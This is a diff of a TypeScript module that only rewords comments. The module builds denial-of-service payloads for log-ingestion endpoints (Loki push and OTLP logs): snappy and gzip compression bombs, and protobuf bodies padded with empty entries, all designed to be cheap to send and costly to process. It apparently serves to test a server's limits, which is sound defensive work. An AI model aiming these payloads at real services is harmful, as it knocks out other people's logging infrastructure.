@@ -1,6 +1,6 @@
 import { gzipSync } from 'node:zlib';
 
-/** A push that costs its sender little. */
+/** A small push that is expensive to process. */
 export interface Attack {
   readonly path: string;
   readonly type: string;
@@ -8,7 +8,7 @@ export interface Attack {
   readonly body: Buffer;
 }
 
-/** A number as protobuf and snappy write it, seven bits a byte. */
+/** A varint of protobuf and snappy: seven bits per byte. */
 function varint(value: number): Buffer {
   const bytes: number[] = [];
   let left = value;
@@ -16,14 +16,14 @@ function varint(value: number): Buffer {
   return Buffer.from([...bytes, left]);
 }
 
-/** A field of protobuf with a length. */
+/** A length-delimited protobuf field. */
 function field(number: number, content: Buffer): Buffer {
   return Buffer.concat([Buffer.from([number * 8 + 2]), varint(content.length), content]);
 }
 
 const copyBytes = 64;
 
-/** Snappy of a beginning, and of two bytes that are repeated until there are so many: three bytes for each 64. */
+/** Snappy data of a prefix and two repeated bytes, which takes three bytes per 64 bytes of output. */
 function snappyRepeated(beginning: Buffer, pair: Buffer, total: number): Buffer {
   const literal = Buffer.concat([beginning, pair]);
   const copies = Math.floor((total - literal.length) / copyBytes);
@@ -37,11 +37,11 @@ function snappyRepeated(beginning: Buffer, pair: Buffer, total: number): Buffer 
   ]);
 }
 
-/** Protobuf of entries without anything, so many bytes of them before snappy. */
+/** A protobuf push of empty entries. @param bytes - size before compression */
 export function emptyEntries(bytes: number): Attack {
   const labels = field(1, Buffer.from('{job="attack"}'));
   const pair = Buffer.from([2 * 8 + 2, 0]);
-  // The stream has to say its length, which is that of the whole without its own head.
+  // The header of the stream contains the length of what follows it.
   const head = (length: number): Buffer => Buffer.concat([Buffer.from([8 + 2]), varint(length), labels]);
   const literal = head(bytes).length + pair.length;
   const size = literal + Math.floor((bytes - literal) / copyBytes) * copyBytes;
@@ -53,13 +53,13 @@ export function emptyEntries(bytes: number): Attack {
   };
 }
 
-/** OTLP of records without anything, not compressed. */
+/** An uncompressed OTLP push of empty records. */
 export function emptyRecords(bytes: number): Attack {
   const records = Buffer.alloc(bytes - 32, Buffer.from([2 * 8 + 2, 0]));
   return { path: '/otlp/v1/logs', type: 'application/x-protobuf', body: field(1, field(2, records)) };
 }
 
-/** JSON with one line of so many bytes, in gzip: a thousandth of it. */
+/** A gzip-compressed JSON push with one long line, which shrinks to about a thousandth. */
 export function longLine(bytes: number, path: '/loki/api/v1/push' | '/otlp/v1/logs'): Attack {
   const time = `${Date.now()}000000`;
   const marker = '@';
